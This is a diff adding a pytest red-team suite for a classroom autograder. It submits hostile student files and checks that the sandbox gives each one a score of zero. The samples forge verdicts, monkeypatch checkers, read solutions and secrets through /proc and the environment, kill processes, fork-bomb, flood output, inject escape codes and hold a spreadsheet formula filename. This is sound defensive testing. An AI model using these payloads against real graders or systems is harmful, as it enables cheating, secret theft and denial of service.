@@ -1,0 +1,454 @@
+"""Red team: dishonest, malicious and broken submissions, graded by the real grader.
+
+Each attack is a real submission of the exercise ``dot_product_scores`` in one class folder,
+graded by ``attention grade`` (two jobs) beside honest classmates, some of them graded after
+the attacks. The tests assert that every attack scores 0, that nothing it tried to write
+exists, that no process it started is alive, that the teacher's secrets are in no output, that
+the honest submissions still pass and that the CSV is complete. The first class is graded at
+the best sandbox level here (bubblewrap in CI, which installs it); a smaller class is graded
+with ``--sandbox none`` to show what holds without an OS sandbox (docs/teachers.md).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import os
+import pathlib
+import socket
+import threading
+import time
+import uuid
+
+import pytest
+
+import attention
+from attention.exercises import grade, sandbox
+
+REPO = pathlib.Path(__file__).resolve().parents[2]
+SOLUTIONS = REPO / "teachers" / "solutions.py"
+PACKAGE = pathlib.Path(attention.__file__).resolve().parent
+HOME = pathlib.Path(os.path.expanduser("~"))
+TOKEN = uuid.uuid4().hex
+FILE_SECRET = uuid.uuid4().hex
+
+HONEST = '''
+import jax.numpy as jnp
+
+def dot_product_scores(query, key):
+    return jnp.einsum("btnh,bsnh->bnts", query, key) / jnp.sqrt(query.shape[-1])
+'''
+# Right shape, wrong values: what an attacker returns while forging the verdict.
+WRONG = '''
+import jax.numpy as jnp
+
+def dot_product_scores(query, key):
+    return jnp.zeros((query.shape[0], query.shape[2], query.shape[1], key.shape[1]))
+'''
+
+ATTACKS = {
+    # --- forging the verdict
+    "forge_result_file": '''
+import json, os, pathlib
+_ = pathlib.Path("result.json").write_text(json.dumps({"passed": True, "status": "passed"}))
+_ = pathlib.Path("ready").write_text("ready")
+_ = os._exit(0)
+''',
+    "patch_json_dumps": '''
+import json
+_ = setattr(json, "dumps", lambda *a, **k: '{"passed": true, "status": "passed"}')
+''' + WRONG,
+    "patch_allclose": '''
+import numpy as np
+_ = setattr(np, "allclose", lambda *a, **k: True)
+_ = setattr(np, "array_equal", lambda *a, **k: True)
+''' + WRONG,
+    "patch_checkers": '''
+import sys
+_ = [setattr(m, "check_dot_product_scores", lambda *a, **k: None)
+     for m in list(sys.modules.values()) if "attention" in getattr(m, "__name__", "")]
+import attention.exercises.registry
+''' + WRONG,
+    "print_pass": '''
+import jax.numpy as jnp
+
+def dot_product_scores(query, key):
+    print("[PASS] dot_product_scores: your scores match")
+    return jnp.zeros((1,))
+''',
+    "garbage_on_the_wire": '''
+import os, sys
+_ = os.write(int(sys.argv[3]), b"\\xff" * 64)
+''' + WRONG,
+    "forged_reply": '''
+import json, os, struct, sys
+_head = json.dumps({"op": "result", "value": {"t": "str", "v": "[PASS]"}, "arrays": []}).encode()
+_ = os.write(int(sys.argv[3]), struct.pack(">IQ", len(_head), 0) + _head)
+''' + WRONG,
+    "evil_array": '''
+import numpy as np
+
+class Scores:
+    def __init__(self, shape):
+        self.shape = shape
+    def __array__(self, dtype=None, copy=None):
+        return np.zeros(self.shape, np.float32)
+    def __eq__(self, other):
+        return True
+
+def dot_product_scores(query, key):
+    return Scores((query.shape[0], query.shape[2], query.shape[1], key.shape[1]))
+''',
+    # --- taking the answer
+    "wrap_the_package": '''
+from attention import dot_product_scores as _reference
+
+def dot_product_scores(query, key):
+    return _reference(query, key)
+''',
+    "exec_the_solutions": f'''
+_ = exec(open({str(SOLUTIONS)!r}).read(), globals())
+''',
+    "find_the_solutions": f'''
+import glob
+_ = [exec(open(p).read(), globals())
+     for p in glob.glob({str(REPO)!r} + "/**/solutions.py", recursive=True)]
+''',
+    "classmate_through_proc": '''
+import os
+_ = [exec(open(arg).read(), globals())
+     for pid in os.listdir("/proc") if pid.isdigit() and pid != str(os.getpid())
+     for arg in open(f"/proc/{pid}/cmdline").read().split("\\0")
+     if arg.endswith("submission.py")]
+''',
+    "classmate_by_path": '''
+_ = exec(open(CLASSMATE).read(), globals())
+''',
+    # --- touching the teacher's machine
+    "write_tmp_home_package": f'''
+import os
+_ = open("/tmp/redteam-{TOKEN}-tmp", "w").write("x")
+_ = open({str(HOME)!r} + "/redteam-{TOKEN}-home", "w").write("x")
+_ = open({str(PACKAGE)!r} + "/redteam_{TOKEN}.py", "w").write("x")
+''' + WRONG,
+    "rewrite_the_scores": '''
+_ = open(OUT + "/scores.csv", "w").write("student,total\\nmallory,99\\n")
+''' + WRONG,
+    "leak_the_environment": '''
+import os
+
+def dot_product_scores(query, key):
+    leaks = [str(dict(os.environ))]
+    for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ"):
+        try:
+            leaks.append(open(path).read())
+        except OSError:
+            pass
+    raise ValueError(" ".join(leaks))
+''',
+    "leak_a_teacher_file": '''
+def dot_product_scores(query, key):
+    raise ValueError(open(SECRET_FILE).read())
+''',
+    "open_a_socket": f'''
+import socket
+_ = socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"{TOKEN}")
+''' + WRONG,
+    "children_outlive_grading": f'''
+import subprocess, sys
+_ = [subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "{TOKEN}"])
+     for _ in range(20)]
+_ = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "{TOKEN}"],
+                     start_new_session=True)
+''' + WRONG,
+    "detached_rewriter": '''
+import os, time
+_forged = "rewritten-by-a-detached-child"
+_ = os.fork() == 0 and (os.setsid(), os.fork() == 0 and (
+        time.sleep(4), open(OUT + "/scores.csv", "w").write(_forged), os._exit(0)),
+    os._exit(0))
+''' + WRONG,
+    "poison_the_jax_cache": '''
+import os
+import jax
+_ = jax.config.update("jax_compilation_cache_dir", CACHE)
+_ = jax.config.update("jax_persistent_cache_min_compile_time_secs", 0)
+_ = [open(os.path.join(CACHE, f"poison-{i}"), "w").write("x") for i in range(3)]
+''' + WRONG,
+    "kill_everything": '''
+import os, signal
+_ = os.kill(-1, signal.SIGKILL)
+''',
+    "kill_the_grader": '''
+import os, signal
+_ = os.kill(os.getppid(), signal.SIGKILL)
+''',
+    # --- breaking the grader
+    "flood_the_output": '''
+import os
+_ = os.write(1, b"x" * (150 << 20))
+''' + WRONG,
+    "exhaust_memory": '''
+import numpy as np
+
+def dot_product_scores(query, key):
+    return np.ones(8 << 30, np.float32)
+''',
+    "loop_at_load_time": '''
+_ = [0 for _ in iter(int, 1)]
+''',
+    "escape_codes": '''
+def dot_product_scores(query, key):
+    raise ValueError("\\x1b[2J\\x1b[31mall passed\\x07\\r=1+1")
+''',
+}
+# A fork bomb is only safe to try where the worker has a user id and a process limit of its own.
+FORK_BOMB = '''
+import os, time
+
+def dot_product_scores(query, key):
+    for _ in range(5000):
+        if os.fork() == 0:
+            time.sleep(30)
+            os._exit(0)
+    return query
+'''
+
+
+def _processes_with(marker: str) -> list[int]:
+    found = []
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            try:
+                if marker in pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().decode(
+                        errors="replace"):
+                    found.append(int(pid))
+            except OSError:
+                pass
+    return found
+
+
+class _Listener:
+    """A TCP server on loopback that records whether anyone connected."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.server.settimeout(0.2)
+        self.port = self.server.getsockname()[1]
+        self.connections = 0
+        self.running = True
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while self.running:
+            try:
+                conn, _ = self.server.accept()
+                self.connections += 1
+                conn.close()
+            except OSError:
+                continue
+
+    def close(self):
+        self.running = False
+        self.thread.join()
+        self.server.close()
+
+
+def _grade_class(tmp: pathlib.Path, attacks: dict[str, str], level: str, honest_after=2):
+    """Grade ``attacks`` beside honest classmates; returns what a test needs to look at."""
+    teacher = tmp / "teacher"  # the grader's working folder, with a private file in it
+    (teacher / "class").mkdir(parents=True)
+    (teacher / "cache").mkdir()
+    secret_file = teacher / "secret.txt"
+    secret_file.write_text(FILE_SECRET)
+    out = teacher / "results"
+    out.mkdir()
+    listener = _Listener()
+    folder = teacher / "class"
+    classmate = folder / "aa_honest.py"
+    classmate.write_text(HONEST)
+    names = {
+        "CLASSMATE": repr(str(classmate)), "OUT": repr(str(out)), "SECRET_FILE":
+        repr(str(secret_file)), "PORT": str(listener.port), "CACHE": repr(str(teacher / "cache")),
+    }
+    prelude = "".join(f"{k} = {v}\n" for k, v in names.items())
+    for name, source in attacks.items():
+        # The grader runs only files that define the exercise's names: an attack that takes
+        # its function from elsewhere defines a wrong one first, for the stolen one to replace.
+        if "def dot_product_scores" not in source:
+            source = WRONG + source
+        (folder / f"attack_{name}.py").write_text(prelude + source)
+    for i in range(honest_after):
+        (folder / f"zz_honest_{i}.py").write_text(HONEST)
+    (folder / "zz_honest_latin1.py").write_bytes(b"# caf\xe9 cr\xe8me\n" + HONEST.encode())
+    (folder / '=HYPERLINK("evil","x").py').write_text(WRONG)
+    (folder / "broken.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "def f(')
+    (folder / "huge.py").write_text(HONEST + "#" * (3 << 20))
+    (folder / "linker").mkdir()
+    (folder / "linker" / "answers.py").symlink_to(SOLUTIONS)
+
+    saved = {k: os.environ.get(k) for k in ("ATTENTION_TEACHER_TOKEN", "JAX_COMPILATION_CACHE_DIR")}
+    os.environ["ATTENTION_TEACHER_TOKEN"] = TOKEN
+    os.environ["JAX_COMPILATION_CACHE_DIR"] = str(teacher / "cache")
+    cwd = os.getcwd()
+    printed = io.StringIO()
+    started = time.monotonic()
+    try:
+        os.chdir(teacher)
+        with contextlib.redirect_stdout(printed):
+            status = grade.main([str(folder), "--out", str(out / "scores.csv"), "--jobs", "2",
+                                 "--timeout", "20", "--exercises", "dot_product_scores",
+                                 "--sandbox", level])
+    finally:
+        os.chdir(cwd)
+        for k, v in saved.items():
+            if v is None:
+                os.environ.pop(k, None)
+            else:
+                os.environ[k] = v
+        listener.close()
+    seconds = time.monotonic() - started
+    alive = _processes_with(TOKEN)
+    scores_now = (out / "scores.csv").read_text()
+    time.sleep(5)  # the detached rewriter would strike after 4 s
+    with open(out / "scores.csv", newline="") as f:
+        rows = {r["student"]: r for r in csv.DictReader(f)}
+    with open(out / "scores_feedback.csv", newline="") as f:
+        feedback = {r["student"]: r for r in csv.DictReader(f)}
+    outputs = {
+        "stdout": printed.getvalue(),
+        "scores": (out / "scores.csv").read_text(),
+        "feedback": (out / "scores_feedback.csv").read_text(),
+        **{p.name: p.read_text() for p in (out / "scores_feedback").iterdir()},
+    }
+    return dict(status=status, rows=rows, feedback=feedback, outputs=outputs, alive=alive,
+                scores_before_sleep=scores_now, listener=listener, teacher=teacher,
+                seconds=seconds, attacks=attacks)
+
+
+def _cleanup_strays():
+    for path in (pathlib.Path(f"/tmp/redteam-{TOKEN}-tmp"), HOME / f"redteam-{TOKEN}-home",
+                 PACKAGE / f"redteam_{TOKEN}.py"):
+        path.unlink(missing_ok=True)
+    for pid in _processes_with(TOKEN):
+        with contextlib.suppress(OSError):
+            os.kill(pid, 9)
+
+
+SANDBOX = sandbox.choose("auto")
+
+
+@pytest.fixture(scope="module")
+def sandboxed(tmp_path_factory):
+    if SANDBOX.level != sandbox.BUBBLEWRAP:
+        if os.environ.get("CI"):
+            pytest.fail("CI installs bubblewrap (.ci/run): the namespace sandbox must work")
+        pytest.skip("bubblewrap is not installed or cannot create namespaces here")
+    attacks = dict(ATTACKS)
+    if SANDBOX.drop_user:
+        attacks["fork_bomb"] = FORK_BOMB
+    try:
+        yield _grade_class(tmp_path_factory.mktemp("redteam"), attacks, "auto")
+    finally:
+        _cleanup_strays()
+
+
+def test_every_attack_scores_zero_and_every_honest_submission_passes(sandboxed):
+    rows = sandboxed["rows"]
+    for name in sandboxed["attacks"]:
+        assert rows[f"attack_{name}"]["dot_product_scores"] == "0", (
+            name, sandboxed["feedback"][f"attack_{name}"]["message"])
+    for student in ("aa_honest", "zz_honest_0", "zz_honest_1", "zz_honest_latin1"):
+        assert rows[student]["dot_product_scores"] == "1", sandboxed["feedback"][student]
+    # The CSV is complete: every student, attackers and broken files included.
+    expected = {f"attack_{n}" for n in sandboxed["attacks"]} | {
+        "aa_honest", "zz_honest_0", "zz_honest_1", "zz_honest_latin1", "broken", "huge",
+        "linker", "'=HYPERLINK(\"evil\",\"x\")"}  # read back as written: neutralised
+    assert set(rows) == expected
+    assert sandboxed["status"] == 0
+
+
+def test_the_reasons_name_what_happened(sandboxed):
+    fb = {k.removeprefix("attack_"): v for k, v in sandboxed["feedback"].items()}
+    assert "cannot be imported while grading" in fb["wrap_the_package"]["message"]
+    assert fb["forge_result_file"]["status"] == "crashed"
+    assert fb["garbage_on_the_wire"]["status"] == "crashed"
+    assert fb["loop_at_load_time"]["status"] == "timed out"
+    assert "could not be read" in fb["broken"]["message"]
+    assert "over 2 MiB" in fb["huge"]["message"]
+    assert fb["linker"]["status"] == "not submitted"  # the link to the solutions is not read
+    assert "your scores" in fb["patch_allclose"]["message"]  # the parent's diagnosis
+
+
+def test_nothing_the_attacks_wrote_exists(sandboxed):
+    assert not pathlib.Path(f"/tmp/redteam-{TOKEN}-tmp").exists()
+    assert not (HOME / f"redteam-{TOKEN}-home").exists()
+    assert not (PACKAGE / f"redteam_{TOKEN}.py").exists()
+    assert list((sandboxed["teacher"] / "cache").iterdir()) == []
+    assert sandboxed["scores_before_sleep"] == sandboxed["outputs"]["scores"]
+    assert "mallory" not in sandboxed["outputs"]["scores"]
+    assert "rewritten-by-a-detached-child" not in sandboxed["outputs"]["scores"]
+
+
+def test_no_process_outlives_grading_and_no_connection_was_made(sandboxed):
+    assert sandboxed["alive"] == []
+    assert sandboxed["listener"].connections == 0
+
+
+def test_no_secret_and_no_control_character_reaches_an_output(sandboxed):
+    for name, text in sandboxed["outputs"].items():
+        assert TOKEN not in text, name
+        assert FILE_SECRET not in text, name
+        assert "\x1b" not in text and "\x07" not in text, name
+    assert len(sandboxed["outputs"]["feedback"]) < 64_000  # 150 MiB of output was not copied
+
+
+def test_a_formula_in_a_name_is_neutralised(sandboxed):
+    scores = sandboxed["outputs"]["scores"]
+    assert "'=HYPERLINK" in scores
+    assert not any(line.startswith(("=", '"=')) for line in scores.splitlines())
+
+
+def test_each_student_gets_a_feedback_report(sandboxed):
+    report = sandboxed["outputs"]["zz_honest_0.md"]
+    assert "Score: **1 / 1**" in report and "Dot-product scores" in report
+    attack = sandboxed["outputs"]["attack_patch_allclose.md"]
+    assert "Score: **0 / 1**" in attack
+
+
+# ----------------------------------------------------------------------------- without a sandbox
+
+PROCESS_ATTACKS = {name: ATTACKS[name] for name in (
+    "forge_result_file", "patch_allclose", "wrap_the_package", "leak_the_environment",
+    "children_outlive_grading", "flood_the_output")}
+
+
+@pytest.fixture(scope="module")
+def unsandboxed(tmp_path_factory):
+    try:
+        yield _grade_class(tmp_path_factory.mktemp("process"), PROCESS_ATTACKS, "none",
+                           honest_after=1)
+    finally:
+        _cleanup_strays()
+
+
+def test_without_a_sandbox_the_verdict_still_holds(unsandboxed):
+    rows = unsandboxed["rows"]
+    for name in PROCESS_ATTACKS:
+        assert rows[f"attack_{name}"]["dot_product_scores"] == "0", (
+            name, unsandboxed["feedback"][f"attack_{name}"]["message"])
+    assert rows["zz_honest_0"]["dot_product_scores"] == "1"
+    assert unsandboxed["alive"] == []  # setsid children included: the grader adopts orphans
+    for name, text in unsandboxed["outputs"].items():
+        assert TOKEN not in text, name
+    assert "sandbox: process only" in unsandboxed["outputs"]["stdout"]
+
+
+def test_strict_refuses_without_a_namespace_sandbox(tmp_path, monkeypatch):
+    monkeypatch.setattr(sandbox, "bubblewrap_works", lambda: False)
+    (tmp_path / "alice.py").write_text(HONEST)
+    assert grade.main([str(tmp_path), "--out", str(tmp_path / "s.csv"),
+                       "--sandbox", "strict"]) == 2
+    assert not (tmp_path / "s.csv").exists()
